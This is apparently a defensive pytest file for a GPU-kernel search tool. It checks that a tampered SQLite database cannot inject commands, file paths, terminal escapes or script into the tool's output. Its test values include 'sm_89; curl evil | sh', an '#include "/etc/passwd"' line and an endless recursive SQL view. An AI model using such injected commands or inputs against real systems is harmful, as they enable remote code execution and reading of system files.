"""A database from outside: damaged rows are refused, and no text in one becomes code, a path or a traceback."""

import json
import os
import re
import signal
import sqlite3
import subprocess
import sys
import time
from dataclasses import replace
from functools import partial
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from evoattn.cli.main import app
from evoattn.export.check import export_source
from evoattn.families.registry import FAMILIES
from evoattn.families.render import render
from evoattn.model import gpu
from evoattn.model.records import CompileInfo, Evaluation, TrialState
from evoattn.model.space import KernelConfig
from evoattn.search.reproduce import ReproduceError, reproduce
from evoattn.storage import Storage, StorageError
from evoattn.storage.rows import plain_text, study_from_row, timing_from_row, trial_from_row
from evoattn.storage.schema import trials
from tests.untrusted.untrusted import EVIL, JSON, PROBLEM, SPACE

STUDY = {
    "id": 1,
    "name": "s",
    "problem": PROBLEM.to_dict(),
    "gpu": "l4",
    "arch": "sm_89",
    "offline": 1,
    "sampler": "genetic",
    "seed": 0,
    "families": ["flash_scalar"],
    "versions": {"evoattn": "0.1"},
    "options": {"cache": "warm"},
    "created_at": "",
}
TRIAL = {
    "number": 1,
    "study_id": 1,
    "family": "flash_scalar",
    "config": {"A": 1},
    "config_id": "x",
    "state": "TIMEOUT",
    "reason": "",
    "relative_cost": None,
    "source_hash": None,
    "registers": None,
    "parents": [],
    "operator": "",
    "created_at": "",
    "seconds": 0.0,
    "validation": None,
}
TIMING = {"samples_us": [1.0], "protocol": {"stage": "screen"}}


@pytest.mark.slow
@settings(max_examples=300)
@given(st.sampled_from([(study_from_row, STUDY), (trial_from_row, TRIAL), (timing_from_row, TIMING)]), st.data())
def test_rows_are_checked(reader, data):
    read, good = reader
    row = dict(good) | {
        data.draw(st.sampled_from(sorted(set(good) - {"id", "number", "study_id", "source_hash"}))): data.draw(JSON)
    }
    try:
        record = read(row, ()) if read is trial_from_row else read(row)
    except StorageError as refusal:
        assert "use another copy" in str(refusal)
        return
    assert not re.search(
        r"[\x00-\x08\x0b-\x1f]",
        f"{getattr(record, 'name', '')}{getattr(record, 'reason', '')}{getattr(record, 'operator', '')}",
    )


def test_text_turns_no_line_around():
    assert plain_text("a\u202eb\u2066c\u200f\u2028d") == "a?b?c??d"


def test_what_a_timing_says_is_plain_text_of_its_kind():
    said = {"disqualified": EVIL, "sanitizer": {"memcheck": EVIL}, "clocks": {"absent": EVIL, "throttled_by": [EVIL]}}
    timing = timing_from_row(TIMING | {"protocol": TIMING["protocol"] | said})
    assert (
        "\x1b" not in f"{timing.protocol}{timing.disqualified}"
        and "\\x1b" not in f"{timing.protocol}"
        and timing.disqualified
    )
    for broken in ({"sanitizer": [1]}, {"clocks": "x"}, {"clocks": {"throttled_by": [1]}}):
        with pytest.raises(StorageError, match="is damaged"):
            timing_from_row(TIMING | {"protocol": TIMING["protocol"] | broken})


@pytest.fixture
def hostile(tmp_path):
    """A database with one right trial of a real source, every free text of which somebody has rewritten."""
    storage = Storage.open(str(tmp_path / "db.sqlite"))
    family, spec = FAMILIES["flash_scalar"], gpu.GPUS["l4"]
    config = SPACE.starting_configs()[0]
    study = storage.create_study("s", PROBLEM, spec, True, "genetic", 0, ("flash_scalar",), {"evoattn": "0.1"}, {})
    storage.use_environment({"host": EVIL})
    candidate = render(family, PROBLEM, KernelConfig("flash_scalar", config.params), spec)
    storage.record(
        study,
        config,
        candidate,
        Evaluation(TrialState.ESTIMATED, "", CompileInfo(registers=32, compiler="NVRTC"), relative_cost=1.0),
    )
    with sqlite3.connect(storage.url.database) as plain:
        plain.execute("UPDATE trials SET reason = ?, operator = ?, compiler = ?", (EVIL,) * 3)
        plain.execute(
            "UPDATE studies SET name = ?, versions = ?, problem = ?",
            (EVIL, json.dumps({"evoattn": EVIL, "device": EVIL}), json.dumps(PROBLEM.to_dict() | {"name": EVIL})),
        )
    yield storage
    storage.close()


def test_a_recorded_time_of_zero_is_no_result_to_reproduce(hostile):
    study = hostile.latest_study()
    timed = Evaluation(TrialState.COMPLETE, "", timings=(timing_from_row(TIMING | {"samples_us": [0.0]}),))
    config = SPACE.starting_configs()[0]
    candidate = render(FAMILIES["flash_scalar"], PROBLEM, config, study.spec)
    with pytest.raises(ReproduceError, match=r"has a record of 0\.00 µs, which is no time"):
        reproduce(hostile, hostile.record(study, config, candidate, timed), study)


def test_an_export_of_a_hostile_database_is_the_kernel_and_comments(hostile):
    text = export_source(hostile, hostile.trial(1))
    outside = text.replace(hostile.source(hostile.trial(1).source_hash), "")
    for line in outside.splitlines():
        assert "system" not in line or line.startswith("// "), line
        assert not line.startswith("// ") or not line.endswith("\\")


@pytest.mark.slow
@pytest.mark.parametrize("words", [("--format", "check"), ("--format", "header"), ("--format", "torch")])
def test_an_export_says_when_its_source_is_not_the_templates(hostile, tmp_path, words):
    study, trial = hostile.latest_study(), hostile.trial(1)
    ours = render(FAMILIES["flash_scalar"], PROBLEM, SPACE.starting_configs()[0], gpu.GPUS["l4"])
    foreign = replace(ours, source=ours.source + '\n#include "/etc/passwd"\n')
    result = Evaluation(TrialState.ESTIMATED, "", CompileInfo(registers=32, compiler="NVRTC"), relative_cost=1.0)
    other = hostile.record(study, KernelConfig(trial.family, trial.config), foreign, result)
    said = []
    for number in (trial.number, other.number):
        place = ["--db", hostile.place, "-o", str(tmp_path / f"out{number}")]
        done = CliRunner().invoke(app, ["export", str(number), *words, *place])
        assert done.exit_code == 0, done.output
        said.append("renders another text than the recorded one. What was exported is code of whoever" in done.stderr)
    assert said == [False, True]


@pytest.mark.slow
def test_page_terminal_and_folder_of_a_hostile_database(hostile, tmp_path):
    before = sorted(tmp_path.iterdir())
    for words in (
        ("report",),
        ("report", "--full"),
        ("studies",),
        ("report", "--format", "html"),
        ("report", "--format", "json"),
        ("show", "1"),
        ("show", "1", "--source"),
        ("export", "1"),
        ("reproduce", "1"),
    ):
        result = CliRunner().invoke(app, [*words, "--db", str(tmp_path / "db.sqlite")])
        assert result.exception is None or isinstance(result.exception, SystemExit), (words, result.exception)
        assert "\x1b" not in result.output and "\x07" not in result.output, words
        assert "html" not in words or "<script>alert" not in result.output
    assert sorted(p for p in tmp_path.iterdir() if "sqlite-" not in p.name) == [
        p for p in before if "sqlite-" not in p.name
    ]


@pytest.mark.slow
def test_a_source_that_no_template_renders_runs_only_on_request(hostile):
    study, trial = hostile.latest_study(), hostile.trial(1)
    other = render(FAMILIES["flash_scalar"], PROBLEM, SPACE.starting_configs()[0], gpu.GPUS["l4"])
    changed = type(other)(
        other.family, other.config, other.config_id, other.source + "\n// one more line\n", other.arch
    )
    compiled = CompileInfo(registers=32, compiler="NVRTC")
    foreign_result = Evaluation(TrialState.ESTIMATED, "", compiled, relative_cost=1.0)
    foreign = hostile.record(study, KernelConfig(trial.family, trial.config), changed, foreign_result)
    with pytest.raises(ReproduceError, match=r"renders another text .* was not run: .* --trust-source"):
        reproduce(hostile, foreign, study)
    found = {f.what: f.sentence for f in reproduce(hostile, foreign, study, trust_source=True).findings}
    assert "Right in all" in found["answers"] and "another text" in found["source"]
    assert "the same machine code" in found["code"]
    empty = replace(changed, source='extern "C" __global__ void flash_scalar() {}\n')
    foreign = hostile.record(study, KernelConfig(trial.family, trial.config), empty, foreign_result)
    found = {f.what: f.sentence for f in reproduce(hostile, foreign, study, trust_source=True).findings}
    assert "other machine code" in found["code"]


@pytest.mark.parametrize(
    "column, value", [("arch", "sm_89; curl evil | sh"), ("arch", "sm_89 -I/"), ("options", '{"cache": "x"}')]
)
def test_words_that_reach_a_command_line_are_checked(hostile, column, value):
    with sqlite3.connect(hostile.url.database) as plain:
        plain.execute(f"UPDATE studies SET {column} = ?", (value,))
    with pytest.raises(StorageError, match="is damaged"):
        hostile.latest_study()


@pytest.mark.slow
def test_a_query_without_an_end_ends_with_sigterm(tmp_path):
    """As a view in place of the trials may be."""
    path = tmp_path / "db.sqlite"
    Storage.open(str(path)).close()
    with sqlite3.connect(path) as database:
        database.execute("DROP TABLE trials")
        columns = ", ".join(f"1 AS {column.name}" for column in trials.c)
        endless = "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n) SELECT"
        database.execute(f"CREATE VIEW trials AS {endless} {columns} FROM n WHERE x < 0")
        database.execute("PRAGMA journal_mode=DELETE")
    words = [sys.executable, "-m", "evoattn", "show", "1", "--db", str(path)]
    pipes: dict[str, Any] = dict(stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    heeds = partial(signal.signal, signal.SIGINT, signal.default_int_handler)  # what a shell runs behind it may not
    process = subprocess.Popen(words, **pipes, preexec_fn=heeds)
    try:
        while not any(os.path.realpath(file) == str(path) for file in Path(f"/proc/{process.pid}/fd").iterdir()):
            assert process.poll() is None
            time.sleep(0.05)
        with pytest.raises(subprocess.TimeoutExpired):
            process.wait(0.5)
        process.send_signal(signal.SIGTERM)
        _, said = process.communicate(timeout=600)
    finally:
        process.kill()  # it would go on for good
    assert process.returncode == 1 and "Interrupted" in said and "Traceback" not in said, said
